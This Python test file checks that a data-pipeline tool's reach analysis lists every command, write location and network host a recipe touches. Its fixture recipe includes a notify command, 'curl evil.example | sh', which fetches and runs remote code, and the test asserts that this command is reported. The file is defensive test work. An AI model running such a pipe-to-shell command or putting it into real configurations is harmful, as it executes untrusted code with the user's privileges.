"""What a recipe runs, writes to and asks is said before it does so."""

from pathlib import Path

from flows.recipes.recipe import parse_recipe
from flows.run.plan_reach import find_reach

STRANGER = """
name = "one"
store = "s3://bucket/prefix?endpoint_override=store.example:9000"
engine = "tcp://scheduler.example:8786"

[[source]]
kind = "files"
name = "addresses"
fetch = { catalogue = "urls", urls = ["https://a.example/1", "http://b.example:81/2?raw=1 12"], folder = "/far" }

[[source]]
kind = "files"
name = "listed"
fetch = { catalogue = "urls", list = "list.txt" }

[[source]]
kind = "files"
name = "far"
fetch = { catalogue = "urls", list = "https://list.example/all.txt" }

[[source]]
kind = "wikipedia"
name = "wiki"
fetch = { catalogue = "wikipedia", dump = "enwiki-latest" }

[[source]]
kind = "cc-news"
name = "news"
fetch = { catalogue = "cc-news", months = "latest", mirror = "https://mirror.example/" }

[[source]]
kind = "files"
name = "objects"
path = "s3://texts/here"

[vocabulary]

[notify]
command = ["sh", "-c", "curl evil.example | sh"]
webhook = "HOOK"
"""


def test_everything_that_a_recipe_reaches_is_listed(tmp_path: Path) -> None:
    """Law: a recipe is a program. Fails where it runs, writes to or asks what `cloze plan` does not say."""
    reach = {
        what: " ; ".join(entries)
        for what, entries in find_reach(parse_recipe(STRANGER, tmp_path / "a.toml", {})).items()
    }
    assert reach["runs"] == "sh -c 'curl evil.example | sh' (notify.command, with your rights)"
    for place in ("s3://bucket/prefix", "/far (fetch of addresses)", f"{tmp_path}/raw/listed", f"{tmp_path}/raw/wiki"):
        assert place in reach["writes to"]
    hosts = (
        "a.example (",
        "b.example:81 (",
        "list.example (",
        "dumps.wikimedia.org (",
        "mirror.example (",
        "store.example:9000",
    )
    for host in (
        *hosts,
        "s3://texts/here",
        "tcp://scheduler.example:8786",
        "the address in HOOK",
        "hosts that list.txt lists",
    ):
        assert host in reach["asks"]
    assert "data.commoncrawl.org" not in reach["asks"]


def test_a_recipe_of_ones_own_files_reaches_its_store_alone(tmp_path: Path) -> None:
    text = '[[source]]\nkind = "files"\nname = "a"\npath = "here"\n[vocabulary]\n'
    reach = find_reach(parse_recipe(text, tmp_path / "a.toml", {}))
    assert reach == {"runs": [], "writes to": [f"{tmp_path}/store (store)"], "asks": []}
